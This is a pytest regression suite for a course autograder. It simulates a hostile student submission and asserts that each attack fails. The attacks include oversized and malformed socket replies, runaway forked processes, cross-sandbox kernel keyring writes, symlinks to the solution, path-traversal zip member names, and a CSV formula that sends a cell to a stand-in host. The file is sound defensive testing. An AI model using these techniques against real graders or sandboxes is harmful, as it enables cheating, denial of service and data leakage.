"""More of a hostile student against the autograder (see tests/test_grader_isolation.py for the first suite).

Each test runs one attack and asserts that it gains, leaks or harms nothing. An attack that
succeeded once was fixed, and its test holds the fix.
"""
import hashlib
import json
import os
import resource
import shutil
import sys
import time
import zipfile
from pathlib import Path

import pytest

from grading import batch, gradescope, sandbox
from grading import worker as wire
from grading.boundary import Limits, Pool, WorkerFailure
from helpers.core import config
from helpers.handin import submission

sys.path.insert(0, str(config.REPO_ROOT / "tests"))
from test_grader_isolation import copy_with_probe, needs_cgroup, needs_sandbox

REPO = config.REPO_ROOT

PROBE = '''
import os, stat, sys, time


def _channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass


def _request_id():
    frame = sys._getframe(1)
    while frame is not None:
        if isinstance(frame.f_locals.get("request"), dict) and "id" in frame.f_locals["request"]:
            return frame.f_locals["request"]["id"]
        frame = frame.f_back


def _send_raw(header: bytes, tail: bytes = b""):
    """Write one reply of our own making (JSON header, raw bytes) to the grader, then leave."""
    import grading_worker as wire
    body = wire.HEADER.pack(len(header)) + header + tail
    message = memoryview(wire.HEADER.pack(len(body)) + body)
    fd = _channel()
    while message:
        message = message[os.write(fd, message):]
    time.sleep(600)  # the grader reads and decodes: our time budget should end this


def many_lists(mib):
    """A reply of ``mib`` MiB of empty lists: each 12 bytes of JSON becomes a dict and two lists in the grader."""
    count = (mib << 20) // 12
    tree = b'{"list":[' + b",".join([b'{"list":[]}'] * count) + b']}'
    _send_raw(b'{"tree":{"dict":{"id":' + str(_request_id()).encode() + b',"value":' + tree + b'}},"arrays":[]}')


def many_generators(mib):
    """A reply of ``mib`` MiB of random generators: each is seeded from the OS and built in the grader."""
    one = b'{"generator":{"bit_generator":"PCG64","state":{"state":1,"inc":1},"has_uint32":0,"uinteger":0}}'
    count = (mib << 20) // len(one)
    tree = b'{"list":[' + b",".join([one] * count) + b']}'
    _send_raw(b'{"tree":{"dict":{"id":' + str(_request_id()).encode() + b',"value":' + tree + b'}},"arrays":[]}')


def infinite_handle():
    _send_raw(b'{"tree":{"dict":{"id":' + str(_request_id()).encode() + b',"value":{"handle":Infinity}}},"arrays":[]}')


def spin_in_background(count):
    """Answer at once, leaving ``count`` processes that compute until killed, each recording its CPU time."""
    for i in range(count):
        if os.fork() == 0:
            try:
                while True:
                    mark = time.process_time() + 0.1
                    while time.process_time() < mark:
                        pass
                    with open(f"/tmp/spun-{os.getpid()}.tmp", "w") as out:
                        out.write(str(time.process_time()))
                    os.replace(f"/tmp/spun-{os.getpid()}.tmp", f"/tmp/spun-{os.getpid()}")
            finally:
                os._exit(0)
    return "answered"


def spun():
    import glob
    return sum(float(open(path).read()) for path in glob.glob("/tmp/spun-*"))
'''


@pytest.fixture(scope="module")
def probe_copy(tmp_path_factory):
    return copy_with_probe(tmp_path_factory.mktemp("attack-probe"), PROBE)


# ----------------------------------------------------------------------------- the wire, from the grader's side
def _maxrss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_a_reply_within_the_cap_does_not_blow_up_in_the_graders_memory(probe_copy):
    """The grader's memory for one reply should stay within a few times the reply cap (64 MiB)."""
    import subprocess
    script = f"""
import resource, sys
from pathlib import Path
from grading.boundary import Pool, Limits, WorkerFailure, StudentError
pool = Pool(Path({str(probe_copy)!r}), Limits(time_s=120, memory=1 << 30))
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    pool.student_for("probe").call("probe.many_lists", 40)
except (WorkerFailure, StudentError) as err:
    print("failure:", err, file=sys.stderr)
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024)
pool.close()
"""
    run = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=300)
    grown_mib = float(run.stdout.strip().splitlines()[-1])
    assert grown_mib < 4 * 64, f"a 40 MiB reply grew the grader by {grown_mib:.0f} MiB ({run.stderr[-300:]})"


def test_decoding_a_reply_stays_within_the_functions_time_budget(probe_copy):
    """A 6 MiB reply of generators (each costly to build) is refused by its header's size, not decoded."""
    pool = Pool(probe_copy, Limits(time_s=1, memory=1 << 30))
    try:
        with pytest.raises(WorkerFailure, match=f"over the {wire.MAX_HEADER}-byte limit"):
            pool.student_for("probe").call("probe.many_generators", 6)
    finally:
        pool.close()


def test_a_reply_of_many_generators_within_the_header_limit_is_refused_at_the_first_too_many():
    one = {"generator": {"bit_generator": "PCG64", "state": {"state": 1, "inc": 1}, "has_uint32": 0, "uinteger": 0}}
    header = json.dumps({"tree": {"list": [one] * (wire.MAX_GENERATORS + 1)}, "arrays": []}).encode()
    assert len(header) < wire.MAX_HEADER
    with pytest.raises(wire.WireError, match=f"over {wire.MAX_GENERATORS} generators"):
        wire.decode(wire.HEADER.pack(len(header)) + header)


def test_an_infinite_handle_is_a_malformed_reply(probe_copy):
    pool = Pool(probe_copy, Limits(time_s=20))
    try:
        with pytest.raises(WorkerFailure, match="malformed"):
            pool.student_for("probe").call("probe.infinite_handle")
    finally:
        pool.close()


@pytest.mark.parametrize("tree", [
    pytest.param({"handle": float("inf")}, id="handle-infinity"),
    pytest.param({"generator": {"bit_generator": "MT19937", "state": {"key": [0] * 624, "pos": 1 << 40}}},
                 id="mt19937-pos-over-c-int"),
    pytest.param({"generator": {"bit_generator": "PCG64", "state": {"state": 1 << 200, "inc": 1}, "has_uint32": 0,
                                "uinteger": 0}}, id="pcg64-state-over-128-bits"),
    pytest.param({"handle": "1" * 5000}, id="handle-of-5000-digits"),
    pytest.param({"dtype": {"names": ["a"], "formats": ["O"]}}, id="object-dtype"),
])
def test_malformed_numbers_in_a_reply_raise_wire_errors(tree):
    header = json.dumps({"tree": tree, "arrays": []}).encode()
    body = wire.HEADER.pack(len(header)) + header
    with pytest.raises(wire.WireError):
        wire.decode(body)


def test_a_generator_with_an_out_of_range_position_is_refused():
    """An MT19937 state with ``pos`` past its key would make a draw read memory out of bounds: refused."""
    header = json.dumps({"tree": {"generator": {"bit_generator": "MT19937",
                                                "state": {"key": [0] * 624, "pos": 100000}}}, "arrays": []}).encode()
    with pytest.raises(wire.WireError, match="position"):
        wire.decode(wire.HEADER.pack(len(header)) + header)


# ----------------------------------------------------------------------------- CPU beyond the budget
@needs_cgroup
def test_a_worker_cannot_compute_more_than_its_budget_between_requests(probe_copy):
    limits = Limits(time_s=2, memory=1 << 30, processes=16)
    pool = Pool(probe_copy, limits)
    try:
        probe = pool.student_for("probe")
        assert probe.call("probe.spin_in_background", 8) == "answered"
        time.sleep(8)  # the grader's own work between two requests (torch's side of the comparisons)
        with pytest.raises(WorkerFailure, match="timed out .*CPU time"):  # what they computed was charged
            probe.call("probe.spun")
    finally:
        pool.close()


# ----------------------------------------------------------------------------- between sandboxes
KEYRING = '''
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
USER_KEYRING = ctypes.c_long(-4)  # KEY_SPEC_USER_KEYRING: uid 65534's, the same in every sandbox


def put(name, text):
    """add_key("user", name, text) on the user keyring; the key id (negative: refused)."""
    return _libc.syscall(248, b"user", name.encode(), text.encode(), len(text), USER_KEYRING)


def get(name):
    """What the key ``name`` holds (KEYCTL_SEARCH, KEYCTL_READ), '' if none; the key is then invalidated."""
    key = _libc.syscall(250, 10, USER_KEYRING, b"user", name.encode(), 0)
    if key < 0:
        return ""
    buffer = ctypes.create_string_buffer(4096)
    size = _libc.syscall(250, 11, ctypes.c_long(key), buffer, 4096)
    _libc.syscall(250, 21, ctypes.c_long(key))  # KEYCTL_INVALIDATE: leave nothing behind
    return buffer.raw[:max(size, 0)].decode(errors="replace")
'''


@needs_sandbox
def test_one_sandbox_leaves_nothing_for_another_in_the_kernel_keyring(tmp_path):
    name = f"hidden-inputs-{os.getpid()}-{time.monotonic_ns()}"
    copies = []
    for who in ("first", "second"):
        copy = tmp_path / who
        shutil.copytree(REPO / "helpers", copy / "helpers", ignore=shutil.ignore_patterns("__pycache__"))
        (copy / "helpers" / "probe.py").write_text(KEYRING)
        copies.append(copy)
    first = Pool(copies[0], Limits(time_s=20))
    try:  # e.g. a hidden phase, recording what its tests sent
        first.student_for("probe").call("probe.put", name, "hidden input 4242.125")
    finally:
        first.close()
    second = Pool(copies[1], Limits(time_s=20))  # another student's grade, or the next grade: its visible phase
    try:
        seen = second.student_for("probe").call("probe.get", name)
    finally:
        second.close()
    assert seen == "", f"the second sandbox read {seen!r}"


# ----------------------------------------------------------------------------- Gradescope's upload
def _gradescope_root(tmp_path: Path) -> Path:
    root = tmp_path / "autograder"
    (root / "submission").mkdir(parents=True)
    (root / "results").mkdir()
    return root


@pytest.mark.parametrize("link", ["source", "anything"])
def test_a_link_in_the_upload_to_the_solution_earns_nothing(tmp_path, link):
    """A GitHub-linked (or unzipped) Gradescope upload may hold symbolic links: one to the autograder's own
    source (the solution's helpers/, /autograder/source on Gradescope) must not be graded."""
    root = _gradescope_root(tmp_path)
    (root / "submission" / link).symlink_to(REPO)  # on Gradescope: /autograder/source
    payload = gradescope.run(root, Limits(time_s=20), only="nn.layers.relu_backward")
    assert payload["score"] == 0, payload["output"]


def test_a_link_to_the_solution_as_helpers_is_refused(tmp_path):
    root = _gradescope_root(tmp_path)
    (root / "submission" / "helpers").symlink_to(REPO / "helpers")
    payload = gradescope.run(root, Limits(time_s=20), only="nn.layers.relu_backward")
    assert payload["score"] == 0 and "Not graded" in payload["output"]


# ----------------------------------------------------------------------------- grade-all's names
def test_no_two_archives_get_one_student_id():
    suffix = hashlib.sha256(b"alice.zip").hexdigest()[:8]
    archives = [Path("alice.zip"), Path("Alice.zip"), Path(f"alice-{suffix}.zip")]
    ids = batch.student_ids(archives)
    assert len(set(ids.values())) == len(archives), ids


def test_odd_archive_names_give_safe_distinct_ids():
    names = ["..zip", "...zip", "a b.zip", "a_b.zip", "a/b.zip", "\u0430lice.zip", "alice.zip", "CON.zip", "-.zip",
             ".hidden.zip", "x" * 300 + ".zip"]
    ids = batch.student_ids([Path(name) for name in names])
    assert len(set(ids.values())) == len(names)
    for name in ids.values():
        assert "/" not in name and name not in ("", ".", "..") and not name.startswith(".")


# ----------------------------------------------------------------------------- archives
def _archive(path: Path, members: dict[str, bytes]) -> Path:
    top = {"format": submission.FORMAT, "code": "",
           "members": {name: {"sha256": hashlib.sha256(body).hexdigest(), "bytes": len(body)}
                       for name, body in members.items()}}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(submission.TOP_MANIFEST, json.dumps(top))
        for name, body in members.items():
            zf.writestr(name, body)
    return path


def test_an_archive_of_many_empty_files_is_refused_before_it_is_unpacked(tmp_path):
    members = {"source/helpers/__init__.py": b""} | {f"source/helpers/f{i}.py": b"" for i in range(3000)}
    archive = _archive(tmp_path / "many.zip", members)
    target = tmp_path / "out"
    with pytest.raises(submission.SubmissionError):
        submission.open_source(archive, target)
    written = sum(1 for _ in target.rglob("*")) if target.exists() else 0
    assert written <= sandbox.MAX_FILES, f"{written} files unpacked"


@pytest.mark.parametrize("name", ["source/helpers/../../escaped.py", "/etc/escaped.py", "source\\..\\..\\escaped.py",
                                  "C:/escaped.py", "source/helpers/\u2215..\u2215escaped.py"])
def test_unsafe_member_names_are_refused_or_stay_inside(tmp_path, name):
    members = {"source/helpers/__init__.py": b"", name: b"escaped"}
    archive = _archive(tmp_path / "unsafe.zip", members)
    target = tmp_path / "deep" / "out"
    try:
        submission.open_source(archive, target)
    except submission.SubmissionError:
        pass
    assert not any(p.name.endswith("escaped.py") for p in tmp_path.rglob("*")
                   if not p.resolve().is_relative_to(target.resolve()))
    assert not Path("/etc/escaped.py").exists()


def test_a_symlink_member_is_unpacked_as_a_plain_file(tmp_path):
    archive = tmp_path / "link.zip"
    members = {"source/helpers/__init__.py": b"", "source/helpers/nn": str(REPO / "helpers" / "nn").encode()}
    _archive(archive, {})
    top = {"format": submission.FORMAT, "code": "",
           "members": {name: {"sha256": hashlib.sha256(body).hexdigest(), "bytes": len(body)}
                       for name, body in members.items()}}
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(submission.TOP_MANIFEST, json.dumps(top))
        for name, body in members.items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (0o120777 << 16) if name.endswith("nn") else (0o100644 << 16)
            zf.writestr(info, body)
    opened = submission.open_source(archive, tmp_path / "out")
    assert not (opened.source / "helpers" / "nn").is_symlink()


def test_gradescope_writes_results_for_an_archive_with_a_file_where_a_folder_goes(tmp_path):
    root = _gradescope_root(tmp_path)
    _archive(root / "submission" / "submission.zip", {"source/helpers/__init__.py": b"", "source/helpers/x": b"",
                                                      "source/helpers/x/y.py": b""})
    payload = gradescope.run(root, Limits(time_s=20), only="nn.layers.relu_backward")
    assert payload["score"] == 0 and "Not graded" in payload["output"]
    assert (root / "results" / "results.json").is_file()


def test_the_gradebook_holds_no_formula_from_an_archive_name():
    record = {"student": "x", "archive": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\").zip",
              "status": "refused", "reason": "refused", "results": {}, "consistency": "", "inference": "",
              "isolation": "", "seconds": 0, "sha256": "0" * 64, "identical_to": []}
    import csv
    import io
    rows = list(csv.reader(io.StringIO(batch.gradebook_csv([record]))))
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows[1:] for cell in row), rows[1]
